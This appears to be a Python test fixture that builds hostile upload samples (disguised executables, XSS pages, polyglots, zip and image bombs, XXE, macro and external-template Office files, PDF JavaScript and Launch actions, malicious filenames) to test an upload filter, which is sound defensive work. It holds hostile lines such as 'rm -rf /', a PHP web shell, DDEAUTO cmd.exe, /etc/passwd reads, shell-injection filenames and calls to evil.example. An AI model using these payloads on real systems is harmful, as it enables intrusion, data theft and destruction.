"""Hostile uploads, each made by code: what it is called, its bytes, and what has to become of it.

``refused`` may not be kept; ``harmless`` may, since it is only ever handed out as a download and drawn anew.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import NamedTuple

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.collaboration.casefiles.films import film

REFUSED, HARMLESS = "refused", "harmless"
SCRIPT = b"<script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + rb"ANTIVIRUS-TEST-FILE!$H+H*"
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml", "ofd": "OFD.xml"}
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


class Sample(NamedTuple):
    name: str
    data: bytes
    fate: str = REFUSED


def packed(kind: str = "docx", *, more: dict[str, bytes] | None = None, types: str = TYPES, main: bool = True) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", types)
        if main:
            made.writestr(MAIN[kind], "<document/>")
        for name, data in (more or {}).items():
            made.writestr(name, data)
    return out.getvalue()


def image(form: str = "PNG", **more: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (9, 90, 180)).save(out, form, **more)
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, *chunks: bytes) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    body = chunk(b"IDAT", zlib.compress(bytes(1000)))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + body + chunk(b"IEND", b"")


def pdf(pages: int = 1, *, size: tuple[float, float] = (200, 200), password: str = "", extra: bytes = b"") -> bytes:
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(*size)
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue() + extra


def pdf_that(action: dict[str, str]) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    said = DictionaryObject({NameObject("/Type"): NameObject("/Action")})
    for name, value in action.items():
        said[NameObject(name)] = NameObject(value) if value.startswith("/") else TextStringObject(value)
    writer._root_object[NameObject("/OpenAction")] = said
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def hidden_script() -> bytes:
    """A script in a packed object, as most writers store them."""
    words = zlib.compress(b"7 0 << /S /JavaScript /JS (app.alert(1)) >>")
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(words) + words
    return pdf().replace(b"xref", b"9 0 obj\n" + stream + b"\nendstream\nendobj\nxref", 1)


def looping_pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 99999>>endobj\n"
        b"trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
    )


def many_entries(count: int) -> bytes:
    return packed(more={f"word/{number}.bin": b"" for number in range(count)})


def compound(*words: bytes) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + b"".join(words) + bytes(600)


def programs() -> Iterator[Sample]:
    for name in ("setup.pdf", "setup.png", "setup.docx", "setup.txt", "setup.mp4", "setup.exe"):
        yield Sample(name, b"MZ\x90\x00" + bytes(900))
    yield Sample("a.png", b"\x7fELF" + bytes(400))
    yield Sample("a.txt", b"#!/bin/sh\nrm -rf /\n")
    yield Sample("a.pdf", b"\xca\xfe\xba\xbe" + bytes(90))
    yield Sample("发票.pdf.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(90))
    for name in ("a.js", "a.vbs", "a.bat", "a.ps1", "a.hta", "a.php", "a.htaccess", "a.eml", "a.reg"):
        yield Sample(name, b"words that some program would run")
    yield Sample("a.jar", packed(main=False, more={"Main.class": b"\xca\xfe\xba\xbe"}))
    yield Sample("run.txt", b"@echo off\r\ndel *.*\r\n", HARMLESS)
    yield Sample("a.swf", b"CWS\x0a" + bytes(90))
    yield Sample("a.rtf", b"{\\rtf1{\\object\\objocx}}")
    yield Sample("a.txt", b"{\\rtf1{\\object\\objocx}}")
    yield Sample("a.txt", b"%!PS\n(/etc/passwd) run")


def pages() -> Iterator[Sample]:
    for name in ("a.html", "a.png", "a.jpg", "a.pdf", "a.txt", "a.docx", "a.svg", "a.mp4"):
        yield Sample(name, HTML)
    for name in ("a.svg", "a.png", "a.txt", "a.jpeg"):
        yield Sample(name, SVG)
    yield Sample("a.txt", b"\xef\xbb\xbf  \n" + HTML)
    yield Sample("a.txt", "<html><script>1</script></html>".encode("utf-16"))
    yield Sample("a.csv", b"1,2\n<iframe src=javascript:alert(1)>\n")
    yield Sample("a.txt", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')
    yield Sample("a.csv", b"=cmd|'/c calc'!A0,2\n", HARMLESS)


def polyglots() -> Iterator[Sample]:
    tail = packed(main=False, more={"a.class": b"x"})
    yield Sample("a.pdf", pdf() + tail)
    yield Sample("a.png", image() + tail)
    yield Sample("a.jpg", image("JPEG") + tail)
    yield Sample("a.png", png_of(40, 30, chunk(b"tEXt", b"Comment\0" + SCRIPT)))
    yield Sample("a.jpg", image("JPEG", comment=SCRIPT), HARMLESS)
    yield Sample("a.png", image() + b"<?php system($_GET[1]); ?>")
    yield Sample("a.gif", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)")
    yield Sample("a.pdf", b" " * 100 + pdf())
    yield Sample("a.pdf", b"%PDF-1.7\n" + HTML + pdf())
    yield Sample("a.docx", b"MZ" + packed())
    yield Sample("a.docx", b"PK\x03\x04" + bytes(60) + packed())
    yield Sample("a.jpg", image())
    yield Sample("a.png", image("JPEG"))
    yield Sample("a.pdf", image())
    yield Sample("a.doc", packed())


def bombs() -> Iterator[Sample]:
    zeros = bytes(16 * 1024 * 1024)
    yield Sample("a.docx", packed(more={"word/media/a.bin": zeros}))
    yield Sample("a.xlsx", packed("xlsx", more={f"xl/{number}.bin": zeros[: 2**21] for number in range(8)}))
    yield Sample("a.ofd", packed("ofd", more={"Doc_0/a.bin": zeros}))
    yield Sample("a.docx", many_entries(2500))
    yield Sample("42.zip", packed(main=False, more={"a.zip": packed(main=False)}))
    yield Sample("a.docx", packed().replace(b"PK\x05\x06" + bytes(4), b"PK\x05\x06" + b"\xff" * 4), HARMLESS)
    yield Sample("a.docx", packed()[:-30])
    yield Sample("a.png", png_of(50_000, 50_000))
    yield Sample("a.png", png_of(0, 0))
    yield Sample("a.png", png_of(40, 30, chunk(b"zTXt", b"a\0\0" + zlib.compress(zeros))))
    yield Sample("a.png", png_of(40, 30, chunk(b"iCCP", b"a\0\0" + zlib.compress(zeros))))
    yield Sample("a.jpg", image("JPEG").replace(b"\x00\x1e\x00\x28", b"\xff\xff\xff\xff", 1))
    yield Sample("a.jpg", image("JPEG", exif=b"Exif\0\0II*\0\x08\0\0\0" + b"\xff" * 4000), HARMLESS)
    yield Sample("a.gif", b"GIF89a" + bytes(2000))
    yield Sample("a.pdf", pdf(300), HARMLESS)
    yield Sample("a.pdf", pdf(size=(10_000_000, 10_000_000)), HARMLESS)
    yield Sample("a.pdf", looping_pdf())


def documents() -> Iterator[Sample]:
    yield Sample("a.docx", packed(more={"word/vbaProject.bin": b"x"}))
    yield Sample("a.docx", packed(types="<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"))
    yield Sample("a.docm", packed())
    doctype = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    yield Sample("a.docx", packed(more={"word/styles.xml": doctype}))
    yield Sample("a.xlsx", packed("xlsx", more={"xl/s.xml": b'<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">'}))
    rel = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    yield Sample("a.docx", packed(more={"word/_rels/settings.xml.rels": rel}))
    rel = b'<Relationship TargetMode="External" Target="http://evil.example/" Type="http://x/oleObject"/>'
    yield Sample("a.pptx", packed("pptx", more={"ppt/_rels/p.xml.rels": rel}))
    yield Sample("a.docx", packed(more={"word/f.xml": b"<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>"}))
    for name in ("../../etc/cron.d/x", "/etc/passwd", "word/..\\..\\x", "C:\\x"):
        yield Sample("a.docx", packed(more={name: b"x"}))
    yield Sample("a.docx", packed(more={"word/activeX/activeX1.bin": b"x"}))
    yield Sample("a.docx", packed(more={"word/embeddings/a.exe": b"MZ"}))
    yield Sample("a.docx", packed(main=False, more={"a.txt": b"x"}))
    yield Sample("a.doc", compound("_VBA_PROJECT".encode("utf-16-le")))
    yield Sample("a.xls", compound("EncryptedPackage".encode("utf-16-le")))
    yield Sample("a.pdf", pdf_that({"/S": "/JavaScript", "/JS": "app.alert(1)"}))
    yield Sample("a.pdf", pdf_that({"/S": "/Launch", "/F": "cmd.exe"}))
    yield Sample("a.pdf", pdf_that({"/S": "/RichMediaExecute"}))
    yield Sample("a.pdf", hidden_script())
    yield Sample("a.pdf", pdf(password="geheim"))
    yield Sample("a.pdf", pdf()[:200])
    yield Sample("a.pdf", b"%PDF-1.7\n" + bytes(3000) + b"\n%%EOF\n")
    yield Sample("a.png", image()[:60])
    yield Sample("a.jpg", image("JPEG")[:300])
    for form, name in (("WEBP", "a.webp"), ("BMP", "a.bmp"), ("TIFF", "a.tiff"), ("ICO", "a.ico")):
        yield Sample(name, image(form))


def films() -> Iterator[Sample]:
    """Broken in every way; nobody is hurt by one that is only kept, and of most not even a picture can be drawn."""
    whole = {ending: film(ending) for ending in ("mp4", "mov", "webm", "avi")}
    noise = random.Random(7)
    for ending, data in whole.items():
        yield Sample(f"a.{ending}", data, HARMLESS)
        yield Sample(f"a.{ending}", data[: len(data) // 2], HARMLESS)
        changed = bytearray(data)
        for at in noise.sample(range(64, len(data)), len(data) // 40):
            changed[at] = noise.randrange(256)
        yield Sample(f"a.{ending}", bytes(changed), HARMLESS)
    yield Sample("a.mp4", whole["mp4"].replace(b"\x00\x40\x00\x30", b"\xff\xff\xff\xff"), HARMLESS)
    yield Sample("a.mp4", b"\x00\x00\x00\x18ftypmp42" + b"\x00\x00\x00\x08moov" * 5000, HARMLESS)
    yield Sample("a.mp4", b"\x00\x00\x00\x18ftypmp42" + b"#EXTM3U\nfile:///etc/passwd\n", HARMLESS)
    yield Sample("a.webm", b"\x1a\x45\xdf\xa3" + b"\xff" * 4000, HARMLESS)
    yield Sample("a.mp4", b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\nconcat:http://evil.example/|file:///etc/passwd\n")


def names() -> Iterator[Sample]:
    yield Sample("", image())
    yield Sample("机密-样例.png", image())
    yield Sample("a.png.exe", image())
    yield Sample("a.png", b"")
    for name in (
        "../../../etc/passwd.png", "..\\..\\windows\\a.png", "a\0.exe.png", "\u202egnp.exe.png", "a\r\nSet: x.png",
        "长" * 400 + ".png", "CON.png", ".htaccess.png", "a;b`c`$(d).png", "\u200b\ufeff.png", '"><script>.png',
    ):  # fmt: skip
        yield Sample(name, image(), HARMLESS)
    yield Sample("eicar.txt", EICAR, HARMLESS)  # a scanner's work, not ours


def samples() -> list[Sample]:
    """All of them."""
    return [*programs(), *pages(), *polyglots(), *bombs(), *documents(), *films(), *names()]
